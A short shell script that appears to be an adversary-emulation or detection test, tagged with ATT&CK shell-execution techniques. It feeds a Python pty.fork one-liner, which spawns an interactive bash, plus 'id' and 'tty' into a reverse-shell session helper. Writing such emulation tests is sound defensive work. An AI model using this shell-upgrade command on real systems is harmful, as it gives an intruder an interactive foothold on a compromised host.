# pty.fork and a copy loop of its own instead of pty.spawn.
# ATT&CK: T1059.006, T1059.004
. ./session.sh
reverse_shell <<'TYPED'
python3 -c 'import os, pty; pid, fd = pty.fork(); pid or os.execv("/bin/bash", ["bash", "-i"]); pty._copy(fd)'
id
tty
exit
exit
TYPED
